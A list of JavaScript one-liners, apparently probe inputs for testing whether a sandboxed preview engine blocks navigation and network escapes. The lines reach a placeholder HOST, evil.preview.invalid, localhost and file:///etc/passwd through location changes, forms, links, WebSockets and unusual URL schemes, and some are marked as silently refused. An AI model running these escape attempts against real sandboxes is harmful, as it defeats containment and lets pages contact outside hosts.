// One attempt a line. A silent one is refused by the engine without a word to anybody.
location='http://HOST/n1'
location='https://HOST/n2'
location.replace('https://HOST/n3')
location.assign('//HOST/n4')
top.location='https://HOST/n5'
window.open('https://HOST/n6')
window.open('https://HOST/n7','_self')
window.open('https://HOST/n8','_top')
document.body.innerHTML='<meta http-equiv=refresh content="0;url=https://HOST/n9">';document.head.append(document.body.firstChild)
a=document.createElement('a');a.href='https://HOST/n10';a.click()
a=document.createElement('a');a.href='https://HOST/n11';a.target='_blank';document.body.append(a);a.click()
a=document.createElement('a');a.href='#x';a.ping='https://HOST/n12';document.body.append(a);a.click()
a=document.createElement('a');a.href='https://HOST/n13';a.download='x';a.click()
a=document.createElement('a');a.href='javascript:fetch("https://HOST/n14")';document.body.append(a);a.click()
document.body.innerHTML='<form id=f action=https://HOST/n15></form>';f.submit()
document.body.innerHTML='<form id=f method=post action=https://HOST/n16><input name=a value=b></form>';f.submit()
document.body.innerHTML='<form id=f target=_top method=post action=http://HOST/n17></form>';f.submit()
document.body.innerHTML='<form id=f target=_blank method=post action=http://HOST/n18></form>';f.submit() // silent
document.body.innerHTML='<form id=f><button id=b formaction=https://HOST/n19></button></form>';b.click()
document.body.innerHTML='<base href=https://HOST/><img src=n20><form id=f action=n21></form>';f.submit()
location='file:///etc/passwd'
location='ftp://HOST/n22' // silent
location='jar:http://HOST/n23.jar!/a' // silent
location='mailto:a@HOST'
location='tel:123'
location='custom://HOST/n24' // silent
location='data:text/html,<script>try{new WebSocket("ws://HOST/n25")}catch(e){}</script>' // silent
location=URL.createObjectURL(new Blob(['<script>try{new WebSocket("ws://HOST/n26")}catch(e){}</script>'],{type:'text/html'})) // silent
location='javascript:"<script>try{new WebSocket(\'ws://HOST/n27\')}catch(e){};fetch(\'https://HOST/n28\')<\/script>"' // silent
document.open();document.write('<script>try{new WebSocket("ws://HOST/n29")}catch(e){};fetch("https://HOST/n30")<\/script>');document.close()
location='about:blank'
history.back()
history.go(-2)
location='view-source:https://HOST/n31' // silent
location='blob:https://HOST/n32' // silent
location='about:srcdoc'
location.host='HOST'
location.port=1
location='https://other.preview.invalid/'
location='//evil.preview.invalid:443/'
location='https://127.0.0.1:PORT/n33'
location='resource:///x'
location='jrt:/java.base/module-info.class'
